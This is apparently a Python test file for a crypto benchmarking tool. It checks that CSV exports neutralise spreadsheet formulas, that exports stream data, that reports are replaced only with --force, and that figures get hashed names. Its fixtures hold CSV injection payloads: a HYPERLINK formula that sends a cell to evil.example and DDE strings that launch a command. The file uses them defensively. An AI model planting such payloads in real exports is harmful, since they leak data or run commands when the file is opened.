"""Exports and reports of runs whose text came from others (issue 30, item 4 and 7): CSV cells that
would start a spreadsheet formula are neutralised in every CSV cryptobench writes; export and report
stream the cells instead of holding every run; `report --out` replaces a report only with --force,
and whole; figure files are named by a short hash of many runs' ids."""
import csv
import io
import re

import pytest

from conftest import cli
from cryptobench.cli import main
from cryptobench.report.export import build_table
from cryptobench.report.export_write import render_csv
from cryptobench.core.records import Plan
from cryptobench.report.figures.style import ID_CHARS, run_suffix, unique_id
from cryptobench.core.table import spreadsheet_safe
from cryptobench.stats.results import derive
from cryptobench.store.database import Store
from storeutil import save_cell_at

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
HOSTILE = {
    "label": FORMULA,
    "detail": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mode": "-2+3+cmd|' /C calc'!A0",          # a string parameter
    "host": "+1+cmd",
    "cflags": "\t=1+1",
}


def _hostile_store(db, runs: int = 1, cells_per_run: int = 3):
    """Runs whose label, cell detail, a string parameter, the host name and the compiler flags begin
    a formula, with a negative number parameter beside them (which must stay a number)."""
    store = Store(db)
    cond = {"host": {"hostname": HOSTILE["host"], "cpu": {"model": "Test CPU", "arch": "x86_64"}},
            "harness": {"harness": "cbh-host", "cflags": HOSTILE["cflags"], "counter": "tsc"}}
    for r in range(runs):
        rid = store.create_run(Plan.from_json({"suite": None, "label": HOSTILE["label"], "groups": [],
                                               "options": {"engines": ["openssl-sw"], "repeat": 3}}), cond)
        for seq in range(cells_per_run):
            params = {"bytes": 16 * (seq + 1), "offset": -5, "mode": HOSTILE["mode"]}
            samples = [[4, 4000 + 10 * i, 0] for i in range(5)]
            save_cell_at(store, rid, seq, {"op": "sha256", "params": params, "engine": "openssl-sw",
                                           "target": "host", "provenance": "measured", "status": "ok",
                                           "kat": "pass", "detail": HOSTILE["detail"], "samples": samples,
                                           "result": derive("sha256", params, samples, {"counter": "tsc"}, False)})
        store.set_status(rid, "complete")
    store.close()
    return db


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would read as a formula: each that begins with = + - @ TAB CR is a number."""
    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?( ?%)?")
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert number.fullmatch(cell), cell


def test_spreadsheet_safe_quotes_formulas_and_keeps_numbers():
    for text in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "-O2 -g", "-inf"):
        assert spreadsheet_safe(text) == "'" + text
    for text in ("-5", "-1.5e-07", "+3", "-12.5 %", "0.5", "", "abc", "'=already"):
        assert spreadsheet_safe(text) == text


@pytest.mark.e2e
def test_export_csv_neutralises_every_text_cell_and_keeps_numbers(tmp_path):
    db = _hostile_store(tmp_path / "r.sqlite")
    out = tmp_path / "cells.csv"
    proc = cli("export", "1", "--format", "csv", "--out", str(out), "--db", str(db))
    assert proc.returncode == 0, proc.stderr
    rows = _cells(out.read_text(encoding="utf-8"))
    _assert_no_formula(rows)
    head, first = rows[0], dict(zip(rows[0], rows[1]))
    assert first["run_label"] == "'" + HOSTILE["label"]
    assert first["detail"] == "'" + HOSTILE["detail"]
    assert first["param_mode"] == "'" + HOSTILE["mode"]
    assert first["host_name"] == "'" + HOSTILE["host"]
    assert first["cflags"] == "'" + HOSTILE["cflags"]
    assert first["param_offset"] == "-5"                 # a negative number stays a number
    assert "param_offset" in head and float(first["median_s"]) > 0
    # parquet and JSON hold the values as they are: only the CSV is read by spreadsheets
    proc = cli("export", "1", "--format", "json", "--db", str(db))
    assert f'"run_label": {__import__("json").dumps(HOSTILE["label"])}' in proc.stdout


def test_show_csv_and_the_reports_csv_tables_are_neutralised(tmp_path):
    db = _hostile_store(tmp_path / "r.sqlite")
    proc = cli("show", "1", "--format", "csv", "--db", str(db))
    assert proc.returncode == 0, proc.stderr
    rows = _cells(proc.stdout)
    _assert_no_formula(rows)
    assert any(cell == "'" + HOSTILE["detail"] for row in rows for cell in row)
    assert main(["report", "1", "--out", str(tmp_path / "rep"), "--db", str(db), "--quiet"]) == 0
    tables = list((tmp_path / "rep" / "tables").glob("*.csv"))
    assert tables
    for path in tables:
        _assert_no_formula(_cells(path.read_text(encoding="utf-8")))


@pytest.mark.e2e
def test_a_real_runs_label_reaches_the_csv_export_neutralised(tmp_path, harness):
    db = tmp_path / "r.sqlite"
    proc = cli("run", "--op", "sha256", "--param", "bytes=16", "--engine", "openssl-sw", "--repeat", "3",
               "--min-time", "0.001", "--label", FORMULA, "--db", str(db), timeout=300)
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "run.csv"
    proc = cli("export", "latest", "--format", "csv", "--out", str(out), "--db", str(db))
    assert proc.returncode == 0, proc.stderr
    rows = _cells(out.read_text(encoding="utf-8"))
    assert dict(zip(rows[0], rows[1]))["run_label"] == "'" + FORMULA
    _assert_no_formula(rows)


# --- streaming -------------------------------------------------------------------------------------
def _never_whole(monkeypatch):
    """Store.load_run with the cells is refused: a command must stream them (Store.iter_cells)."""
    original = Store.load_run

    def load_run(self, run_id, cells=True):
        assert not cells, "a whole run was loaded"
        return original(self, run_id, cells=False)
    monkeypatch.setattr(Store, "load_run", load_run)


def _export_text(db, *args) -> str:
    out = io.StringIO()
    import contextlib
    with contextlib.redirect_stdout(out):
        assert main(["export", "1-3", "--db", str(db), *args]) == 0
    return out.getvalue()


@pytest.mark.parametrize("backend", ["sqlite", pytest.param("postgresql", marks=pytest.mark.subprocess)])
def test_export_streams_the_cells_and_writes_the_table_held_whole(tmp_path, monkeypatch, backend, request):
    db = tmp_path / "r.sqlite" if backend == "sqlite" else request.getfixturevalue("pg_db")
    _hostile_store(db, runs=3, cells_per_run=7)
    store = Store(db)
    runs = [store.load_run(i) for i in (1, 2, 3)]
    store.close()
    for samples in (False, True):
        columns, rows = build_table(runs, samples=samples)
        whole = render_csv(columns, rows)
        _never_whole(monkeypatch)
        assert _export_text(db, "--format", "csv", *(["--samples"] if samples else [])) == whole
        monkeypatch.undo()
    _never_whole(monkeypatch)
    import json
    assert len(json.loads(_export_text(db, "--format", "json"))) == 21


def test_report_reads_one_run_at_a_time(tmp_path, monkeypatch):
    db = _hostile_store(tmp_path / "r.sqlite", runs=3, cells_per_run=4)
    _never_whole(monkeypatch)
    assert main(["report", "1-3", "--out", str(tmp_path / "rep"), "--db", str(db), "--quiet"]) == 0
    html = (tmp_path / "rep" / "report.html").read_text(encoding="utf-8")
    assert html.count('<section id="tables-run-') == 3 and "<svg" not in html        # figures embedded as data:
    assert not list((tmp_path / "rep").rglob("*.part")) and not list((tmp_path / "rep").glob(".report-*"))


# --- report --out ----------------------------------------------------------------------------------
def test_report_refuses_a_folder_that_holds_a_report_without_force(tmp_path, capsys):
    db = _hostile_store(tmp_path / "r.sqlite", runs=2)
    out = tmp_path / "rep"
    assert main(["report", "1-2", "--out", str(out), "--db", str(db), "--quiet"]) == 0
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    capsys.readouterr()
    assert main(["report", "1", "--out", str(out), "--db", str(db), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "holds a report already" in err and "--force" in err
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before      # nothing touched


def test_report_force_replaces_the_whole_report(tmp_path):
    db = _hostile_store(tmp_path / "r.sqlite", runs=2)
    out = tmp_path / "rep"
    out.mkdir()
    (out / "notes.txt").write_text("mine")                 # not the report's: kept
    assert main(["report", "1-2", "--out", str(out), "--db", str(db), "--quiet"]) == 0
    (out / "figures" / "stale-figure.png").write_bytes(b"old")
    (out / "tables" / "stale.csv").write_text("old")
    assert main(["report", "1", "--out", str(out), "--db", str(db), "--quiet", "--force"]) == 0
    names = {p.name for p in out.rglob("*")}
    assert "stale-figure.png" not in names and "stale.csv" not in names
    assert not any("-r1-2" in n for n in names)             # no figure of the old report's runs
    assert (out / "notes.txt").read_text() == "mine" and (out / "report.html").exists()
    assert sorted(p.name for p in out.iterdir()) == ["figures", "notes.txt", "report.html", "tables"]


def test_a_report_that_fails_half_way_leaves_the_old_one(tmp_path, monkeypatch, capsys):
    db = _hostile_store(tmp_path / "r.sqlite", runs=2)
    out = tmp_path / "rep"
    assert main(["report", "1-2", "--out", str(out), "--db", str(db), "--quiet"]) == 0
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    from cryptobench.report import build
    from cryptobench.core.errors import UsageError

    def broken(*args, **kwargs):
        raise UsageError("the figures failed")
    monkeypatch.setattr(build, "_one_run", broken)
    assert main(["report", "1", "--out", str(out), "--db", str(db), "--quiet", "--force"]) == 2
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in out.iterdir()) == ["figures", "report.html", "tables"]
    # a new folder that fails is not left behind
    assert main(["report", "1", "--out", str(tmp_path / "new" / "rep"), "--db", str(db), "--quiet"]) == 2
    assert not (tmp_path / "new" / "rep").exists()


# --- figure names ----------------------------------------------------------------------------------
def test_figures_of_many_runs_are_named_by_a_short_hash():
    assert run_suffix([1]) == "r1" and run_suffix([1, 2, 3, 4]) == "r1-2-3-4"
    many = run_suffix(range(1, 201))
    assert re.fullmatch(r"r200runs-[0-9a-f]{8}", many)
    assert run_suffix(range(1, 201)) == many != run_suffix(range(2, 202))
    used: set = set()
    long = unique_id(used, "duration-sha256-" + "-".join(f"param{i}-value{i}" for i in range(40)))
    assert len(long) <= ID_CHARS and re.fullmatch(r"[a-z0-9-]+", long)
    assert unique_id(used, "duration-sha256-" + "-".join(f"param{i}-value{i}" for i in range(40))) == long + "-2"


def test_a_report_over_many_runs_writes_short_figure_names(tmp_path):
    db = _hostile_store(tmp_path / "r.sqlite", runs=6, cells_per_run=3)
    assert main(["report", "1-6", "--out", str(tmp_path / "rep"), "--db", str(db), "--quiet"]) == 0
    names = [p.name for p in (tmp_path / "rep" / "figures").iterdir()]
    assert names and all(re.fullmatch(r"duration-sha256[a-z0-9-]*-r6runs-[0-9a-f]{8}\.(png|svg)", n) for n in names), names
